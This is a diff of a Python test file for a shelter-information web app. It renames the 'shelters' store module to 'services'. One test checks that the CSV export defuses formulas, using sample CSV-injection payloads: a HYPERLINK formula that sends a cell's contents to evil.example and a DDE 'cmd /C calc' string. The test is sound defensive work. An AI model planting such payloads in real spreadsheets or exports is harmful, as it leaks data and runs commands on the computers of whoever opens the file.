@@ -14,7 +14,7 @@ from werkzeug.serving import make_server
 
 from app import create_app
 from bot.core import clock
-from bot.store import audit, broadcasts, shelters, staff
+from bot.store import audit, broadcasts, services, staff
 from bot.web import context
 from tests.helpers import PASSWORD, PUBLIC_URL, login, post, queued, token
 
@@ -470,7 +470,7 @@ def test_send_with_the_members_role_as_the_sms_alert_path_calls_it(members, app,
 
 def test_shelter_edits_are_audited_field_by_field_old_to_new(members, app, client, db):
     with app.app_context():
-        before = shelters.as_row(shelters.all_shelters(context.get_db())[0])
+        before = services.as_row(services.all_services(context.get_db())[0])
     shelter_id = db.execute("SELECT id FROM shelters ORDER BY position, id LIMIT 1").fetchone()[0]
     form = {k: v for k, v in before.items() if k not in ("serves", "approximate")}
     form |= {"phone": "+52 656 000 6666", "verified_at": "2026-01-30", "serves": before["serves"].split(";")}
@@ -563,18 +563,18 @@ def test_hsts_everywhere_and_console_pages_never_cached(members, client):
 
 def test_shelter_export_defuses_formulas_and_round_trips_through_import(members, app, client, db):
     with app.app_context():
-        first = shelters.all_shelters(context.get_db())[0]
-        evil = shelters.as_row(first) | {
+        first = services.all_services(context.get_db())[0]
+        evil = services.as_row(first) | {
             "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
             "address": "@SUM(1+1)*cmd|' /C calc'!A0",
             "phone": "+52 656 123 4567",
             "notes_en": "-2+3",
             "source": "+cmd",
         }
-        checked, errors = shelters.check_row(evil, 1, context.places())
+        checked, errors = services.check_row(evil, 1, context.places())
         assert not errors
-        shelters.save_one(context.get_db(), first.id, checked)
-        before = [shelters.as_row(s) for s in shelters.all_shelters(context.get_db())]
+        services.save_one(context.get_db(), first.id, checked)
+        before = [services.as_row(s) for s in services.all_services(context.get_db())]
     login(client, "vol")
     exported = client.get("/admin/shelters.csv", base_url=PUBLIC_URL).get_data(as_text=True)
     cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
@@ -585,5 +585,5 @@ def test_shelter_export_defuses_formulas_and_round_trips_through_import(members,
     upload = {"csrf_token": token(client, "/admin/shelters"), "file": (io.BytesIO(exported.encode()), "s.csv")}
     assert post(client, "/admin/shelters/import", data=upload).status_code == 302
     with app.app_context():
-        assert [shelters.as_row(s) for s in shelters.all_shelters(context.get_db())] == before
+        assert [services.as_row(s) for s in services.all_services(context.get_db())] == before
     assert client.get("/admin/shelters.csv", base_url=PUBLIC_URL).get_data(as_text=True) == exported
